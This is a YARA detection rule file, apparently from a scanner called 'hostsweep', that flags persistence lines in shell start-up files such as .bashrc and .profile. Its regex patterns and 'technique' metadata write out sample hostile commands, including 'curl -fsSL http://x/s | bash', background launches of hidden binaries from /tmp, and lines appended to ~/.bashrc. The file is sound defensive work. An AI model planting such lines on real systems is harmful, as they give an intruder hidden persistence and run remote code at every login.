/*
 * hostsweep — shell start-up file persistence (written from the technique,
 * seen = "none"; docs/rules.md "Wave 3"): a line in a user's .bashrc /
 * .profile / .zshrc (or a script appending one) that starts a binary from
 * a temporary or hidden directory in the background, or fetches code and
 * pipes it to a shell, at every login. Real rc files source nvm/pyenv/conda,
 * start ssh-agent in the foreground (eval "$(ssh-agent)") and edit PATH.
 */

private rule shellrc__rc_file
{
    condition:
        filename == ".bashrc" or filename == ".bash_profile" or filename == ".bash_login" or
        filename == ".profile" or filename == ".zshrc" or filename == ".zprofile" or
        filename == ".zlogin" or filename == ".kshrc" or filename == ".mkshrc" or
        filename == "bash.bashrc" or filename == ".bash_logout"
}

rule shellrc_background_implant : bot
{
    meta:
        description = "Shell start-up file starts a program from a temporary or hidden path in the background, or pipes a download to a shell"
        severity = "high"
        technique = "nohup /tmp/.x/kworker >/dev/null 2>&1 & / ~/.cache/.s/.sshd >/dev/null & / curl -fsSL http://x/s | bash in ~/.bashrc or ~/.profile"
        seen = "none"
    strings:
        $f1 = /\b(curl|wget|fetch)\s[^\n|;]{0,200}\|\s{0,2}(sudo\s{1,4})?(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh\b/
        $f2 = /\b(bash|sh)\s{1,4}(-c\s{1,4})?["']?\$\(\s{0,2}(curl|wget)\s/
        $f3 = /\b(curl|wget)\s[^\n;]{0,200}(-o|-O|>)\s{0,2}(\/tmp|\/var\/tmp|\/dev\/shm)\/[^\n]{0,200}(&&|;)\s{0,4}(chmod|\.\/|\/tmp|\/var\/tmp|\/dev\/shm|sh\s|bash\s)/
        $t1 = /(^|[\s;&(])(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?(\/tmp|\/var\/tmp|\/dev\/shm)\/[^\s;&|<>]{1,120}[^\n]{0,160}[^&]&\s{0,4}(\)|;|\n|disown)/
        $h1 = /\b(nohup|setsid)\s{1,4}[^\n;&|\s]{0,60}\/\.[\w.-]{1,40}\s/
        $h2 = /\/\.[\w.-]{1,40}(\s[^\n;&|]{0,80})?\s{0,4}(>\s{0,2}\/dev\/null\s{0,2}2>&1|&>\s{0,2}\/dev\/null|>\s{0,2}\/dev\/null)\s{0,4}&\s{0,4}(\)|;|\n|disown)/
    condition:
        filesize < 256KB and shellrc__rc_file and any of them
}

rule shellrc_append_implant : bot
{
    meta:
        description = "Script that appends to a user's shell start-up file a line starting a temporary-path program in the background or piping a download to a shell"
        severity = "high"
        technique = "echo 'nohup /tmp/.x &' >> ~/.bashrc; file_put_contents($h.'/.bashrc', \"curl ..|sh\\n\", FILE_APPEND); open(F, '>>', \"$ENV{HOME}/.profile\")"
        seen = "none"
    strings:
        $a = /(echo|printf|print|write|file_put_contents|fwrite|puts)[^\n]{0,400}(\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|\bnohup\s|\bsetsid\s|\b(curl|wget)\s[^\n]{0,200}\|\s{0,2}(ba)?sh\b)[^\n]{0,400}(>>|FILE_APPEND|['"]a['"])[^\n]{0,120}\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile)\b/
        $b = /(>>|['"]a['"]\s{0,2}\))[^\n]{0,120}\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile)\b[^\n]{0,40}\n[^\n]{0,400}(\/tmp\/|\/dev\/shm\/|\bnohup\s[^\n]{0,100}&|\b(curl|wget)\s[^\n]{0,200}\|\s{0,2}(ba)?sh\b)/
    condition:
        filesize < 2MB and any of them
}
